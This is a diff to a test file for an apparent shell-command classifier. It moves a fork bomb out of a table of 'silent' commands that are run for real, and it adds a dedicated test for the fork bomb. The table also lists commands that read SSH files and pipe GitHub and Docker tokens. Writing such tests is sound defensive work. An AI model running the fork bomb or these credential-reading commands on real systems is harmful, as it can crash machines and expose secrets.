@@ -149,7 +149,7 @@ SILENT = [
     "VERSION=$(node -p \"require('./package.json').version\"); echo \"$VERSION\"", "while ! nc -z localhost 5432; do sleep 1; done", "diff <(ls src) <(ls docs)",
     "until curl -sf localhost:3000/health; do sleep 1; done", "kill -0 $! 2>/dev/null", "wait $!", "sleep 2; tail -n 20 /tmp/server.log", "npm start > /tmp/server.log 2>&1 &",
     "cat /tmp/server.log", 'cat "$TMPDIR/out.txt"', "cat $HOME/.bashrc", "cat ~/.gitconfig", "ls ~/.ssh", "cat ~/.ssh/config", "cat ~/.ssh/id_rsa.pub", "cat ~/.ssh/known_hosts",
-    ":(){ :|:& };:", "cd src && ls && grep -rn foo .", 'echo "$GITHUB_TOKEN" > /dev/null', 'echo "$DOCKER_PASSWORD" | docker login -u me --password-stdin',
+    "cd src && ls && grep -rn foo .", 'echo "$GITHUB_TOKEN" > /dev/null', 'echo "$DOCKER_PASSWORD" | docker login -u me --password-stdin',
     'docker login -u me --password-stdin <<< "$DOCKER_PASSWORD"', 'echo "$DOCKER_PASSWORD" | sudo docker login -u me --password-stdin ghcr.io',
     'T=$(echo "$GITHUB_TOKEN" | cut -c1-3)', "export GITHUB_TOKEN=$(gh auth token)", "gh auth token | docker login ghcr.io -u me --password-stdin",
     'curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user', "aws ecr get-login-password | docker login --username AWS --password-stdin x",
@@ -171,3 +171,8 @@ def test_decision(command: str, expected: str) -> None:
 def test_rows_are_unique() -> None:
     commands = [command for command, _ in TABLE]
     assert len(commands) == len(set(commands))
+
+
+def test_a_fork_bomb_ends_the_analysis() -> None:
+    """Apart from the tables, whose silent rows are run for real elsewhere."""
+    assert verdict(":(){ :|:& };:").decision == "pass"
